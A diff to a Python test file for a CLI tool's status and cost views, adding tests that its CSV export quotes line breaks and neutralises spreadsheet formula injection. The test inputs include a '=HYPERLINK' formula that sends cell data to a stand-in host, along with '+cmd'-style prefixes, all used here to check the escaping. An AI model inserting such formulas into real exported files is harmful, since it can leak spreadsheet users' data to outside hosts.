@@ -4,6 +4,7 @@ What the commands show, for fixed values, at a width of 100 and without colour.
 
 from __future__ import annotations
 
+import csv
 import io
 import time
 from collections.abc import Iterator
@@ -153,6 +154,17 @@ def test_running_clocks_move_between_answers() -> None:
 
 def test_no_day_says_what_to_do() -> None:
     assert "orchctl submit" in shown(day(make_status(day=None), {}, width=100))
+
+
+def test_limits_that_are_near_are_told_below_the_day() -> None:
+    near = "79% of the day's limit of $10.00 is spent"
+    lines = shown(day(make_status(make_task(), warnings=[near]), {}, width=80)).splitlines()
+    assert lines[1] == near
+
+
+def test_what_keeps_all_agents_is_told() -> None:
+    told = "the usage window is used up, tried again at 17:42 (limit); have it tried now: orchctl retry --account"
+    assert f"Account {told}" in " ".join(shown(day(make_status(make_task(), account=told), {}, width=100)).split())
 
 
 def test_a_hold_is_shown() -> None:
@@ -399,6 +411,36 @@ class TestCosts:
         assert (
             shown(costs_table(self.found(lines=[], total=none))) == "Nothing was spent from 2026-11-21 to 2026-11-22.\n"
         )
+
+    @pytest.mark.parametrize(
+        ("key", "cell"),
+        [
+            ("a\rb", "a\rb"),
+            ("a\nb", "a\nb"),
+            ("a\r\nb", "a\r\nb"),
+            ('x,"y', 'x,"y'),
+            ('=HYPERLINK("http://x/?"&A1)', '\'=HYPERLINK("http://x/?"&A1)'),
+            *((f"{sign}cmd", f"'{sign}cmd") for sign in "+-@\t\r"),
+            ("a=b", "a=b"),
+        ],
+    )
+    def test_csv_of_any_key(self, key, cell):
+        """
+        One row a sum, whoever reads it, and none that a spreadsheet would run.
+        """
+        out = io.StringIO(newline="")
+        line = api.CostLine(key=key, usd=1.0, unpriced=["a model", "b;c", 'd"e', "=f"])
+        comma_separated(self.found(lines=[line]), out)
+        head, row = csv.reader(io.StringIO(out.getvalue(), newline=""))
+        assert dict(zip(head, row, strict=True))["day"] == cell
+        assert next(csv.reader([row[-1]], delimiter=";")) == ["a model", "b;c", 'd"e', "=f"]
+        assert row[-1].startswith("a")
+        assert "\r" not in out.getvalue().replace(f'"{cell}"', ""), "only within quotes"
+
+    def test_csv_of_a_model_that_is_called_like_a_formula(self):
+        out = io.StringIO(newline="")
+        comma_separated(self.found(lines=[api.CostLine(key="k", unpriced=["=f"])]), out)
+        assert out.getvalue().endswith(",'=f\n")
 
     def test_csv(self):
         out = io.StringIO()
